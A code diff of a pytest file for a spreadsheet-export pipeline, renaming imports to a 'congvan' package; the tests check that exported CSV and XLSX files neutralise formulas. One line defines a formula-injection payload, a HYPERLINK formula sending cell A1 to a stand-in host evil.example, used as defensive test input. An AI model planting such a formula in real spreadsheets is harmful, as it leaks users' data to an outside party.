@@ -8,9 +8,9 @@ import io
 import pytest
 from openpyxl import load_workbook
 
-from pipeline.export import export, neutralise
-from pipeline.ingest import ingest
-from pipeline.store import Store
+from congvan.pipeline.export import export, neutralise
+from congvan.pipeline.ingest import ingest
+from congvan.pipeline.store import Store
 
 EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
 
@@ -39,7 +39,7 @@ def test_a_formula_in_the_csv_is_text_and_the_csv_has_a_bom(store):
 def test_a_formula_in_the_xlsx_is_a_string_cell(store, tmp_path):
     data, _, _ = export(store, "xlsx")
     ws = load_workbook(io.BytesIO(data)).active
-    from pipeline.xlsx import HEADERS
+    from congvan.pipeline.xlsx import HEADERS
 
     col = [c.value for c in ws[1]].index(HEADERS["subject"])  # the clerk's header for the subject
     cells = [row[col] for row in ws.iter_rows(min_row=2)]
